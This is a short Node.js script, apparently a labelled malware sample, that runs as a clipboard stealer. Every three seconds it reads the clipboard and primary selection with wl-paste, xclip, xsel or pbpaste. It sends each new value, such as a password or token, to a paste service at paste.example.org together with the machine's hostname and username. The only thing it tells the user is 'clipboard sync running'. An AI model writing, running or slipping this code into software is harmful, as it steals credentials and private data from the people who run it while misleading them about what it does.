// Harmful: polls the clipboard and primary selection every 3 seconds and posts every new value (passwords, tokens) to an outside paste service; hiding: plain
const { execFileSync } = require('child_process');
const https = require('https');
const os = require('os');

const READERS = [
  ['wl-paste', ['--no-newline']],
  ['xclip', ['-o', '-selection', 'clipboard']],
  ['xclip', ['-o', '-selection', 'primary']],
  ['xsel', ['--clipboard', '--output']],
  ['pbpaste', []],
];

function readAll() {
  const seen = [];
  for (const [cmd, args] of READERS) {
    try {
      const v = execFileSync(cmd, args, { timeout: 2000, stdio: ['ignore', 'pipe', 'ignore'] }).toString();
      if (v && !seen.includes(v)) seen.push(v);
    } catch (e) { /* tool not present */ }
  }
  return seen;
}

function post(value) {
  const body = JSON.stringify({ host: os.hostname(), user: os.userInfo().username, at: Date.now(), value });
  const req = https.request({
    hostname: 'paste.example.org', path: '/api/clips', method: 'POST',
    headers: { 'content-type': 'application/json', 'content-length': Buffer.byteLength(body) },
  });
  req.on('error', () => {});
  req.end(body);
}

const last = new Set();
setInterval(() => {
  for (const v of readAll()) {
    if (!last.has(v)) {
      last.add(v);
      post(v.slice(0, 4096));
    }
  }
}, 3000);
console.log('clipboard sync running');
